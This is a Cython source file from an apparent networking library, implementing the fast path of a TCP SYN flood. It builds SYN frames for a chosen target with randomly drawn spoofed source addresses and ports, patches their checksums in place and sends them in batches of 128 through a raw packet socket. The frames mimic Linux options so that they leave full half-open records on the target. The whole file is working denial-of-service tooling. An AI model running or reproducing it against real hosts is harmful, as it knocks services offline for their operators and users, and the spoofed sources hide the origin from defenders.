# SPDX-License-Identifier: MIT
"""SYN segments with made-up sources, many at once, out of a packet socket that the caller has bound.

The fast half of `synflood`, which decides what may be sent and for how long; this file only builds and sends. A frame
is prepared once for each slot of a batch and then patched: source address, source port, sequence number and the
checksums change, nothing else. The batch goes out with one sendmmsg().

The segments look like Linux's (MSS, SACK permitted, timestamps, window scale), so that the half-open records they
leave are full ones. Read first: RFC 9293 section 3.1; RFC 4987 section 2.2 (the attack); packet(7).
Neighbours: above, synflood; below, base/prng, wire/checksum.
"""

from cpython.exc cimport PyErr_SetFromErrno
from libc.errno cimport EAGAIN, EINTR, ENOBUFS, errno
from libc.stdint cimport uint8_t, uint16_t, uint32_t, uint64_t
from libc.string cimport memcmp, memcpy, memset

from ustack.base.posix cimport iovec, mmsghdr, sendmmsg
from ustack.base.prng cimport prng_next, prng_seed, prng_t
from ustack.wire.checksum cimport checksum_add, checksum_emit, checksum_partial

import ipaddress


cdef enum:
    BATCH = 128
    ETHERNET_OCTETS = 14
    TCP_OCTETS = 40                 # 20 and the options of OPTIONS
    FRAME_OCTETS = 94               # the longer of both families: 14 + 40 + 40
    WINDOW = 64240

OPTIONS = bytes([2, 4, 0x05, 0xB4,  4, 2,  8, 10, 0, 0, 0, 1, 0, 0, 0, 0,  1,  3, 3, 7])


cdef class SynSender:
    """Frames for one target.

    source_mac, target_mac: 6 bytes. target: the address to flood. sources: the network that sources are drawn from,
    of the same family; the target itself and, for IPv4, the network's first and last address are never drawn.
    The same seed gives the same frames in the same order.
    """

    cdef uint8_t frames[BATCH][FRAME_OCTETS]
    cdef iovec vectors[BATCH]
    cdef mmsghdr messages[BATCH]
    cdef prng_t prng
    cdef uint8_t target[16]
    cdef uint8_t network[16]
    cdef uint8_t host_mask[16]
    cdef uint32_t tcp_sum           # of the pseudo-header and header without what is patched
    cdef uint32_t ip_sum            # of the IPv4 header without its source
    cdef uint32_t address_octets
    cdef uint32_t length            # of a frame
    cdef uint32_t tcp_offset
    cdef bint is_v4
    cdef uint32_t ready             # first frame of the batch that has not been sent
    cdef readonly uint64_t sent
    cdef readonly uint64_t refused  # calls for which the device had no room

    def __cinit__(self, source_mac: bytes, target_mac: bytes, target: str, port: int, sources: str, seed: int):
        address = ipaddress.ip_address(target)
        network = ipaddress.ip_network(sources)
        if len(source_mac) != 6 or len(target_mac) != 6:
            raise ValueError("a MAC address has 6 bytes")
        if address.version != network.version:
            raise ValueError("target and sources must be of one family")
        if network.num_addresses < 8:
            raise ValueError("sources: at least 8 addresses are needed")
        if not 0 < port < 65536:
            raise ValueError("port: 1 to 65535")
        self.is_v4 = address.version == 4
        self.address_octets = 4 if self.is_v4 else 16
        self.tcp_offset = ETHERNET_OCTETS + (20 if self.is_v4 else 40)
        self.length = self.tcp_offset + TCP_OCTETS
        prng_seed(&self.prng, seed & 0xFFFFFFFFFFFFFFFF)
        self.ready = BATCH
        copy_octets(self.target, address.packed)
        copy_octets(self.network, network.network_address.packed)
        copy_octets(self.host_mask, network.hostmask.packed)
        frame = target_mac + source_mac + self._ip_header(address) + self._tcp_header(port)
        self._prepare(frame, address.packed)

    def _ip_header(self, address) -> bytes:
        """Ethertype and IP header, source and checksum zero."""
        if self.is_v4:
            total = 20 + TCP_OCTETS
            return bytes([8, 0, 0x45, 0, 0, total, 0, 0, 0x40, 0, 64, 6, 0, 0, 0, 0, 0, 0]) + address.packed
        return bytes([0x86, 0xDD, 0x60, 0, 0, 0, 0, TCP_OCTETS, 6, 64]) + bytes(16) + address.packed

    def _tcp_header(self, port: int) -> bytes:
        """SYN, with source port, sequence number and checksum zero."""
        head = [0, 0, port >> 8, port & 0xFF, 0, 0, 0, 0, 0, 0, 0, 0, TCP_OCTETS // 4 << 4, 0x02]
        return bytes([*head, WINDOW >> 8, WINDOW & 0xFF, 0, 0, 0, 0]) + OPTIONS

    def _prepare(self, frame: bytes, packed: bytes):
        """Sum once what never changes, and put the frame into every slot."""
        pseudo = packed + bytes([0, 6, 0, TCP_OCTETS])
        octets = pseudo + frame[self.tcp_offset:]
        self.tcp_sum = checksum_partial(octets, len(octets), 0)
        ip_header = frame[ETHERNET_OCTETS:self.tcp_offset]
        self.ip_sum = checksum_partial(ip_header, len(ip_header), 0)
        memset(self.messages, 0, sizeof(self.messages))
        for i in range(BATCH):
            memcpy(self.frames[i], <const uint8_t *>frame, self.length)
            self.vectors[i].iov_base = self.frames[i]
            self.vectors[i].iov_len = self.length
            self.messages[i].msg_hdr.msg_iov = &self.vectors[i]
            self.messages[i].msg_hdr.msg_iovlen = 1

    def send(self, fd: int, count: int) -> int:
        """Send up to `count` frames through the packet socket `fd`; returns how many went.

        Fewer go when the device has no room (counted in `refused`); the rest is offered first the next time. Raises
        OSError for anything else that the kernel refuses.
        """
        cdef int error
        cdef int descriptor = fd
        cdef uint64_t wanted = count
        cdef uint64_t before = self.sent
        with nogil:
            error = self._send(descriptor, wanted)
        if error == ENOBUFS or error == EAGAIN:
            self.refused += 1
        elif error != 0 and error != EINTR:
            PyErr_SetFromErrno(OSError)
        return self.sent - before

    def next_frame(self) -> bytes:
        """The next frame instead of sending it: what the frames are can be looked at without a network."""
        if self.ready == BATCH:
            self._refill()
        self.ready += 1
        return self.frames[self.ready - 1][:self.length]

    cdef int _send(self, int fd, uint64_t count) noexcept nogil:
        """0, or the errno of the call that stopped it."""
        cdef int went
        cdef uint64_t room
        while count > 0:
            if self.ready == BATCH:
                self._refill()
            room = BATCH - self.ready
            went = sendmmsg(fd, &self.messages[self.ready], <unsigned int>(room if room < count else count), 0)
            if went < 0:
                return errno
            self.ready += went
            self.sent += went
            count -= went
        return 0

    cdef void _refill(self) noexcept nogil:
        cdef int i
        for i in range(BATCH):
            self._patch(self.frames[i])
        self.ready = 0

    cdef void _patch(self, uint8_t *frame) noexcept nogil:
        """Give one frame a new source and new checksums."""
        cdef uint8_t *tcp = frame + self.tcp_offset
        cdef uint8_t *source = frame + (26 if self.is_v4 else 22)
        cdef uint64_t word = prng_next(&self.prng)
        cdef uint16_t port = <uint16_t>(1024 + (word & 0xFFFF) % 64512)
        cdef uint16_t checksum
        cdef uint32_t source_sum, tcp_sum
        self._draw_source(source)
        tcp[0] = port >> 8
        tcp[1] = port & 0xFF
        word >>= 16
        memcpy(tcp + 4, &word, 4)
        source_sum = checksum_partial(source, self.address_octets, 0)
        if self.is_v4:
            checksum = checksum_emit(checksum_add(self.ip_sum, source_sum))
            memcpy(frame + 24, &checksum, 2)
        tcp_sum = checksum_add(self.tcp_sum, source_sum)
        tcp_sum = checksum_partial(tcp, 2, tcp_sum)
        checksum = checksum_emit(checksum_partial(tcp + 4, 4, tcp_sum))
        memcpy(tcp + 16, &checksum, 2)

    cdef void _draw_source(self, uint8_t *source) noexcept nogil:
        """An address of the network that a host could have, and that is not the target's."""
        cdef uint64_t random[2]
        cdef const uint8_t *octets = <const uint8_t *>random
        cdef bint all_zero, all_one
        cdef uint32_t i
        while True:
            random[0] = prng_next(&self.prng)
            random[1] = 0 if self.is_v4 else prng_next(&self.prng)
            all_zero = True
            all_one = True
            for i in range(self.address_octets):
                source[i] = self.network[i] | (octets[i] & self.host_mask[i])
                all_zero = all_zero and (octets[i] & self.host_mask[i]) == 0
                all_one = all_one and (octets[i] & self.host_mask[i]) == self.host_mask[i]
            if not all_zero and not all_one and memcmp(source, self.target, self.address_octets) != 0:
                return


cdef void copy_octets(uint8_t *to, octets: bytes):
    """`bytes` into an array that has room for 16."""
    memcpy(to, <const uint8_t *>octets, len(octets))
